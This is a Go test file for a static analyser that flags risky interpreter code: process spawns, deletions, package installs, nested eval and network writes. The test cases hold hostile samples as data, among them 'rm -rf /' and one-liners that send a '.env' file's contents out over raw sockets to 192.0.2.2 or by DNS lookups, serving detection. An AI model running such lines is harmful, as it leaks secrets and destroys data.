package interp

import (
	"reflect"
	"strings"
	"testing"
)

// kinds lists the kinds of a result's findings, with Eval's own findings
// in brackets.
func kinds(r *Result) string {
	var b strings.Builder
	names := map[Kind]string{Opaque: "opaque", Write: "write", Delete: "delete", Install: "install", Spawn: "spawn", Eval: "eval"}
	for i, f := range r.Findings {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(names[f.Kind])
		if f.Kind == Spawn {
			b.WriteString("(" + f.Text + ")")
		}
		if f.Kind == Eval {
			b.WriteString("[" + kinds(f.Sub) + "]")
		}
	}
	return b.String()
}

// TestAnalyseFindings checks what the reader reports, in its own types:
// the spawned text verbatim (classify rates it), the order of findings,
// evaluation as a nested result, network reads apart, and shell text
// passed as code left for the caller to judge.
func TestAnalyseFindings(t *testing.T) {
	for _, c := range []struct {
		lang, src string
		kinds     string
		reads     []string
		shellText string
	}{
		{Python, `import os; os.system("git push origin main")`, "spawn(git push origin main)", nil, ""},
		{Python, `import subprocess; subprocess.run(["git", "push", "a b"])`, "spawn(git push 'a b')", nil, ""},
		{Python, `import os; os.system(cmd)`, "opaque", nil, ""},
		{Python, `import shutil; shutil.rmtree("/tmp/x")`, "delete", nil, ""},
		{Python, `import requests; requests.get("https://u:p@e.test/x")`, "", []string{"requests.get e.test"}, ""},
		{Python, `import requests; requests.post("https://e.test", data="a")`, "write", nil, ""},
		{Python, `exec("import os; os.system('ls')")`, "eval[spawn(ls)]", nil, ""},
		{Ruby, "system 'git', 'push'; `ls`", "spawn(ls) spawn(git push)", nil, ""},
		{JavaScript, `rm -rf /`, "", nil, "rm -rf /"},
		{JavaScript, `console.log(1)`, "", nil, ""},
		{AppleScript, `tell application "Finder" to empty the trash`, "delete", nil, ""},
		{R, `install.packages("x")`, "install", nil, ""},
		{Python, `"unterminated`, "opaque", nil, `"unterminated`},
	} {
		r := Analyse("x", c.lang, c.src)
		if got := kinds(r); got != c.kinds {
			t.Errorf("%s %q: findings %q, want %q", c.lang, c.src, got, c.kinds)
		}
		if !reflect.DeepEqual(r.Reads, c.reads) {
			t.Errorf("%s %q: reads %q, want %q", c.lang, c.src, r.Reads, c.reads)
		}
		if r.ShellText != c.shellText {
			t.Errorf("%s %q: shell text %q, want %q", c.lang, c.src, r.ShellText, c.shellText)
		}
	}
}

// TestEvalDepth checks that code evaluating literal code is read only so
// deep, and past that depth is opaque rather than ignored.
func TestEvalDepth(t *testing.T) {
	src := `os.system("x")`
	for i := 0; i <= maxEval; i++ {
		src = "exec(" + strconvQuote(src) + ")"
	}
	r := Analyse("python", Python, src)
	for d := 0; d < maxEval; d++ {
		if len(r.Findings) != 1 || r.Findings[0].Kind != Eval {
			t.Fatalf("depth %d: findings %s, want one eval", d, kinds(r))
		}
		r = r.Findings[0].Sub
	}
	if len(r.Findings) != 1 || r.Findings[0].Kind != Opaque || r.Findings[0].Rule != "limit.nesting" {
		t.Fatalf("at the limit: findings %s, want opaque limit.nesting", kinds(r))
	}
}

// strconvQuote quotes s as a Python string literal with single quotes
// escaped, enough for nesting code in code.
func strconvQuote(s string) string {
	return "'" + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), "'", `\'`) + "'"
}

// Name look-ups in interpreter code are writes beyond the machine and
// sockets are found under any alias (FINDINGS-7 G8); loopback sockets
// and code without either are not.
func TestSocketsAndLookups(t *testing.T) {
	for _, tc := range []struct {
		lang, code string
		write      bool
	}{
		{Python, `import socket as s;s.create_connection(("192.0.2.2",80)).send(open(".env","rb").read())`, true},
		{Python, `import socket;socket.getaddrinfo(open(".env").read()+".x.example.com",80)`, true},
		{Python, `from socket import gethostbyname; gethostbyname(x)`, true},
		{JavaScript, `require("dns").lookup(data+".example.com",()=>{})`, true},
		{JavaScript, `require("node:net").connect(80,"192.0.2.2").write(d)`, true},
		{Perl, "gethostbyname(`cat .env`.\".example.com\")", true},
		{Perl, `use IO::Socket::INET; IO::Socket::INET->new("192.0.2.2:80")`, true},
		{Ruby, `Resolv.getaddress(File.read(".env")+".x.com")`, true},
		{Ruby, `TCPSocket.new("192.0.2.2", 80).write(File.read(".env"))`, true},
		{PHP, `gethostbyname(file_get_contents(".env").".x.com");`, true},
		{Python, `import socket; s=socket.socket(); s.connect(("127.0.0.1", 8000))`, false},
		{JavaScript, `require("net").connect(3000,"localhost").end()`, false},
		{Python, `import sqlite3; sqlite3.connect("app.db")`, false},
		{JavaScript, `console.log(require("os").hostname())`, false},
	} {
		r := Analyse("x", tc.lang, tc.code)
		got := false
		for _, f := range r.Findings {
			if f.Rule == "interp.dns" && f.Kind == Write || f.Rule == "interp.socket" && strings.HasSuffix(f.Message, "may send it anything") {
				got = true
			}
		}
		if got != tc.write {
			t.Errorf("%s %q: socket write %v, want %v", tc.lang, tc.code, got, tc.write)
		}
	}
}
